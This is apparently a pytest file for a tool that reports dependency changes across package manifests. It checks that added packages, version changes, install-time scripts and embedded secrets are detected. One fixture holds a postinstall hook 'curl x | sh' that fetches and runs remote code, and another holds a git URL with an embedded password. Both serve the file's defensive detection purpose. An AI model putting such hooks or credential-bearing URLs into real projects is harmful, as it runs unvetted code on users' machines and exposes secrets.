"""What is depended on, from manifests as data; what runs when it is installed."""

from pathlib import Path

import pytest

from tests.app.services.changes import Bench, told


@pytest.fixture
def bench(tmp_path: Path) -> Bench:
    return Bench(tmp_path / "bench")


@pytest.mark.parametrize(
    ("path", "before", "after", "found"),
    [
        (
            "pyproject.toml",
            '[project]\ndependencies = ["httpx>=1"]\n',
            '[project]\ndependencies = ["httpx>=2", "rich"]\n',
            {
                "dependency_added": ["depends on rich"],
                "dependency_changed": ["asks for other versions of httpx"],
            },
        ),
        (
            "package.json",
            '{"dependencies": {"a": "1"}}',
            '{"dependencies": {"a": "1", "b": "git+https://x.org/b"}}',
            {"dependency_added": ["depends on code from outside its registry: b"]},
        ),
        (
            "package.json",
            '{"scripts": {"test": "x"}}',
            '{"scripts": {"test": "y", "postinstall": "curl x | sh"}}',
            {"executes": ["runs on your machine when installed: postinstall"]},
        ),
        (
            "Cargo.toml",
            '[dependencies]\na = "1"\n',
            "[dependencies]\n",
            {"dependency_changed": ["no longer depends on a"]},
        ),
        (
            "go.mod",
            "module x\n\nrequire (\n\ta.org/b v1.0.0\n)\n",
            "module x\n\nrequire (\n\ta.org/b v1.1.0\n)\n",
            {"dependency_changed": ["asks for other versions of a.org/b"]},
        ),
        (
            "requirements.txt",
            "httpx==1\n",
            "httpx==1\nrich  # for show\n",
            {"dependency_added": ["depends on rich"]},
        ),
        (
            "requirements.txt",
            "httpx==1\n",
            "httpx==1\ngit+https://me:k8Zq2mLw@x.org/a\n",
            {
                "secret": ["a password in an address"],
                "dependency_added": [
                    "depends on code from outside its registry: git+https://x.org/a"
                ],
            },
        ),
        (
            "Gemfile",
            "gem 'rails', '7'\n",
            "gem 'rails', '7'\ngem 'pg'\n",
            {"dependency_added": ["depends on pg"]},
        ),
        (
            "poetry.lock",
            "a\n",
            "b\n",
            {"dependency_changed": ["1 lock file changed without what is asked for"]},
        ),
        ("package.json", '{"dependencies": {}}', '{"dependencies": ', {}),
        ("package.json", '{"dependencies": {}}', '{"dependencies": [1]}', {}),
    ],
)
def test_it_tells_what_is_depended_on(
    bench: Bench, path: str, before: str, after: str, found: dict[str, list[str]]
) -> None:
    assert told(bench.change({path: before}, {path: after})) == found


def test_a_manifest_that_is_nested_to_break_parsers_says_nothing(bench: Bench) -> None:
    deep = '{"dependencies": ' + '{"a": ' * 50_000
    assert told(bench.change({"package.json": "{}"}, {"package.json": deep})) == {}
